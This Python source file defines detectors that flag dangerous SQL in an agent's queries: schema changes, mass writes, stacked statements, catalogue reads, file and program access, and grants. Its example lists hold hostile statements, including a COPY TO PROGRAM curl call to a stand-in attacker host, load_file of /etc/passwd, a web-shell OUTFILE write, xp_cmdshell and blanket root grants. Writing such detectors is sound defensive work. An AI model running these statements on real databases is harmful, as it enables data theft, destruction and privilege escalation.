"""Statements of SQL that change more than rows, or reach beyond them: what an agent's query should not do unseen.

A pattern finds the words (``drop table``), then the statement around them is parsed: in a text literal they mean
nothing. What does not parse is judged by its text, and so is what is cut off by the window.
"""

from __future__ import annotations

from axonflow.detect.detector import Detector, InContext, Shape
from axonflow.detect.finding import Severity
from axonflow.detect.packs.sql_checks import (
    BEFORE_OBJECT,
    CATALOGUE_NAME,
    DDL_TEXT,
    GAP,
    GRANT_TEXT,
    MASS_WRITE_TEXT,
    OBJECT,
    PRIVILEGES,
    QUERY,
    SHOW_TEXT,
    WINDOW_CHARS,
    G,
    does,
    in_statement,
    is_query_before,
    is_stacked,
    reaches_files,
    reads_catalogue,
    unless_code_calls,
    writes_all_rows,
)
from axonflow.detect.sql_statement import ParseSql, begins_statement
from axonflow.detect.sql_tokens import token_classes

__all__ = ["dangerous_sql"]


_MAX_SPAN_CHARS = 512
"""More than any of the patterns can match, with the longest gaps between its words."""


def _shape(
    pattern: str, triggers: str, in_context: InContext, *, confidence: float = 0.9, window_chars: int = WINDOW_CHARS
) -> Shape:
    return Shape(
        pattern=f"(?i:{pattern})",
        triggers=tuple(triggers.split()),
        in_context=in_context,
        window_chars=window_chars,
        confidence=confidence,
    )


def _detector(
    name: str, severity: Severity, description: str, shapes: tuple[Shape, ...], examples: str, counter_examples: str
) -> Detector:
    return Detector(
        id=f"code.{name}",
        category="code",
        severity=severity,
        description=description,
        shapes=shapes,
        max_span_chars=_MAX_SPAN_CHARS,
        examples=tuple(examples.strip("\n").split("\n")),
        counter_examples=tuple(counter_examples.strip("\n").split("\n")),
    )


def dangerous_sql(parse: ParseSql) -> tuple[Detector, ...]:
    """The detectors of dangerous SQL, judging what `parse` makes of a statement."""
    return (
        _ddl(parse),
        _mass_write(parse),
        _stacked(parse),
        _comment(),
        _catalogue(parse),
        _file_access(parse),
        _grant(parse),
    )


def _ddl(parse: ParseSql) -> Detector:
    pattern = rf"\b(?:create{G}{BEFORE_OBJECT}|alter{G}|drop{G}|truncate{G})(?:{OBJECT})\b|\btruncate{G}[\w`\"\[]"
    return _detector(
        "sql_ddl",
        "high",
        "SQL that creates, alters, drops or empties a table, user or other object.",
        (
            _shape(
                pattern,
                "create alter drop truncate",
                in_statement(parse, does("create", "alter", "drop", "truncate"), DDL_TEXT),
            ),
        ),
        """
DROP TABLE users
drop table if exists audit.log cascade;
CREATE OR REPLACE FUNCTION f() RETURNS void AS 'x'
alter table accounts add column is_admin boolean default true
TRUNCATE orders
select 1; drop/**/database prod
cursor.execute("DROP TABLE users")
CREATE USER eve WITH PASSWORD 'secret'
```sql\\nALTER TABLE t DROP COLUMN a;
""".replace("\\n", " "),
        """
SELECT * FROM log WHERE message = 'drop table users'
How do I drop table reservations for Friday?
DROP TABLE removes the table with its rows, so think twice.
Please create a table with two columns and alter the title.
create table tennis club
drop the index finger and truncate the tail
SELECT created_at AS "create", dropped FROM t
INSERT INTO notes (text) VALUES ('alter table x add y int')
""",
    )


def _mass_write(parse: ParseSql) -> Detector:
    pattern = rf"\bdelete{G}from{G}[\w`\"\[@]|\bupdate{G}[\w`\"\[\].]{{1,64}}{G}(?:as{G})?(?:\w{{1,32}}{G})?set\b"
    return _detector(
        "sql_mass_write",
        "critical",
        "SQL that deletes or changes all rows: no condition, or one that is always true.",
        (_shape(pattern, "delete update", in_statement(parse, writes_all_rows, MASS_WRITE_TEXT)),),
        """
DELETE FROM users
delete from users where 1=1;
UPDATE accounts SET balance = 0
update accounts set balance = 0 where true
UPDATE t SET a = 1 WHERE id = 5 OR 'x' = 'x'
delete from t where id = id
db.run('DELETE FROM sessions;')
WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone
DELETE FROM `users` WHERE name LIKE '%'
UPDATE u SET role = 'admin' WHERE (((1))) = (1) -- all of them
""",
        """
DELETE FROM users WHERE id = 5
UPDATE accounts SET balance = balance - 10 WHERE id = 7 AND balance > 10
SELECT * FROM log WHERE message = 'delete from users'
Please delete from my list the eggs and update the set of plates.
DELETE FROM t WHERE created_at < now() - interval '30 days'
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v
INSERT INTO t (id, n) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET n = 3
update users u set name = 'where' where u.id in (select id from vips)
""",
    )


def _stacked(parse: ParseSql) -> Detector:
    verbs = (
        "select|insert|update|delete|drop|create|alter|truncate"
        "|exec|execute|declare|merge|grant|revoke|copy|set|use|call|shutdown|with|begin|commit"
    )
    return _detector(
        "sql_stacked",
        "medium",
        "Several statements of SQL in one text.",
        (_shape(rf";{GAP}{{0,3}}(?:{verbs})\b", "; ", is_stacked(parse)),),
        """
SELECT 1; DROP TABLE users
select name from t where id = 3; delete from t where id = 3
UPDATE t SET a = 1 WHERE id = 2 ;/**/ INSERT INTO log VALUES (1)
BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT;
""",
        """
SELECT name FROM t WHERE id = 3;
SELECT * FROM t WHERE note = 'first; select one'
Open the door; select a seat; update your app.
for (i = 0; i < n; i++) { select(i); }; update(x);
INSERT INTO t VALUES ('a; drop table b')
""",
    )


def _comment() -> Detector:
    return _detector(
        "sql_comment",
        "low",
        "A comment within a statement of SQL: it can hide a part of it or cut it off.",
        (
            _shape(r"--|/\*|# ", "-- /* #", is_query_before, window_chars=300, confidence=0.7),
            _shape(
                r"(?:--[^\n]{0,100}\n|/\*[^*]{0,100}\*/)\s{0,8}(?:select|insert|update|delete|create|alter|drop|with)\s",
                "select insert update delete create alter drop with",
                lambda _, span, after: bool(QUERY.match(token_classes((span[span.find("\n") + 1 :] + after)[:200]))),
                window_chars=200,
            ),
        ),
        """
SELECT * FROM users WHERE name = 'x' -- AND active = 1
DELETE FROM t WHERE id = 1 /* only this one */
SELECT/**/a FROM t /*!50000 LIMIT 1 */
select a from t where b = 1 # rest
""",
        """
SELECT * FROM t WHERE note = 'a -- b /* c */'
We select a date -- then we order from the menu.
/* a comment of C */ int x = 1; // not SQL
git log --oneline -- src # select the last
# Title
""",
    )


def _catalogue(parse: ParseSql) -> Detector:
    def is_query(before: str, span: str, after: str) -> bool | float:
        return "select" in before.lower() and in_statement(parse, reads_catalogue, None, anywhere=True)(
            before, span, after
        )

    return _detector(
        "sql_catalogue",
        "medium",
        "SQL that reads the database's own tables: its schema, users or settings.",
        (
            _shape(
                rf"(?:\b(?:from|join|into|update)|,){GAP}{{0,3}}[`\"\[(]{{0,3}}{CATALOGUE_NAME}",
                "information_schema performance_schema pg_ sys master mysql sqlite_ all_ dba_ user_ v$",
                is_query,
            ),
            _shape(
                rf"\bshow{G}(?:full{G})?(?:tables|databases|schemas|grants|columns|processlist|create{G}table|variables)\b"
                rf"|\bpragma{G}(?:table_info|table_list|database_list|table_xinfo|index_list)\b",
                "show pragma",
                lambda before, span, after: (
                    begins_statement(before, span) and SHOW_TEXT.match(span + after) is not None
                ),
            ),
        ),
        """
SELECT table_name FROM information_schema.tables
select usename, passwd from pg_catalog.pg_shadow
SELECT name FROM sqlite_master WHERE type = 'table'
select a.x from t a join `mysql`.`user` u on a.id = u.id
SELECT name FROM [sys].[objects]
SHOW TABLES
pragma table_info(users)
""",
        """
SELECT note FROM t WHERE note = 'from information_schema.tables'
from sys.path import x
SELECT id FROM system_users JOIN user_tables_booked ON 1 = 2
What can I read from information_schema.tables?
show tables and chairs to the guests
SELECT sys.name FROM sys WHERE master.x = 1
""",
    )


def _file_access(parse: ParseSql) -> Detector:
    return _detector(
        "sql_file_access",
        "critical",
        "SQL that reads or writes files, runs programs or opens other servers.",
        (
            _shape(
                rf"\b(?:load_file|pg_read_(?:binary_)?file|pg_ls_dir|lo_import|lo_export|load_extension|readfile|writefile|openrowset"
                rf"|opendatasource|sys_(?:exec|eval)|bfilename)\s{{0,4}}\(\s{{0,4}}['\"0-9a-z@(]"
                rf"|\bfrom{G}(?:read_(?:csv|parquet|json|text|blob|ndjson)(?:_auto)?|glob|sniff_csv)\s{{0,4}}\(\s{{0,4}}['\[]",
                "read_ glob sniff_csv load_file pg_ lo_ load_extension readfile writefile openrowset opendatasource"
                " sys_e bfilename",
                unless_code_calls(in_statement(parse, reaches_files, None, anywhere=True)),
            ),
            _shape(
                rf"\binto{G}(?:out|dump)file{GAP}{{0,3}}['\"0@(]|\bload{G}(?:data|xml){G}(?:(?:low_priority|concurrent|local){G}){{0,2}}infile\b"
                rf"|\bbulk{G}insert{G}[\w.\[\]\"]{{1,64}}{G}from\b|\bxp_(?:cmdshell|dirtree|fileexist|reg\w{{1,24}}|subdirs)\b{GAP}{{0,3}}['\"@(]"
                rf"|\bexec(?:ute)?{G}(?:master\s{{0,2}}\.{{1,2}})?(?:dbo\.)?xp_\w|\bsp_oacreate\b|\butl_(?:file|http|smtp)\s{{0,4}}\.\s{{0,4}}\w"
                rf"|\battach{G}(?:database{G})?'|\bdbms_(?:scheduler|java|xslprocessor)\s{{0,4}}\.",
                "outfile dumpfile infile bulk xp_ sp_oacreate utl_ attach dbms_",
                in_statement(parse, lambda _: False, None, anywhere=True),
            ),
            _shape(
                rf"\bcopy{G}(?:[\w.\"]{{1,64}}|\([^)]{{1,100}}\))(?:{GAP}{{0,3}}\([^)]{{0,100}}\))?{G}(?:from|to){G}(?:program\b|'|\$\$)",
                "copy",
                in_statement(parse, reaches_files, None),
            ),
        ),
        """
SELECT load_file('/etc/passwd')
1 and load_file(concat(0x2f, 'etc')) > 1
select 1 into outfile '/var/www/x.php'
COPY users TO PROGRAM 'curl https://evil.example'
COPY t FROM '/etc/passwd'
SELECT pg_read_file('postgresql.conf')
EXEC xp_cmdshell 'dir'
BULK INSERT t FROM 'c:\\x.csv'
SELECT * FROM OPENROWSET('SQLNCLI', 'server', 'select 1')
LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t
""",
        """
SELECT note FROM t WHERE note = 'load_file(''/etc/passwd'')'
COPY users FROM STDIN WITH CSV
What does load_file do, and into outfile?
copy the file to 'Documents' and bulk insert nothing
SELECT file, program FROM copies
await readFile('a.json'); get(readfile(s:x)) and def load_file(self): ...
""",
    )


def _grant(parse: ParseSql) -> Detector:
    return _detector(
        "sql_grant",
        "high",
        "SQL that gives or takes rights.",
        (
            _shape(
                rf"\b(?:grant|revoke){G}(?:grant{G}option{G}for{G})?(?:{PRIVILEGES}|dba|sysdba|sysadmin|superuser|db_owner|pg_\w{{1,32}})\b"
                rf"(?:{GAP}|,)[^;]{{0,120}}?\b(?:on|to|from){G}[\w*.`\"'\[@]",
                "grant revoke",
                in_statement(parse, does("grant", "revoke"), GRANT_TEXT),
            ),
        ),
        """
GRANT ALL ON users TO eve
grant select, insert on table app.users to public;
REVOKE UPDATE ON t FROM bob
GRANT ALL PRIVILEGES ON *.* TO 'root'@'%' WITH GRANT OPTION
GRANT dba TO scott
""",
        """
The council will grant all applicants access to the park.
SELECT note FROM t WHERE note = 'grant all on t to bob'
We grant funding to all, and revoke nothing from anyone.
grant me access to the file
""",
    )
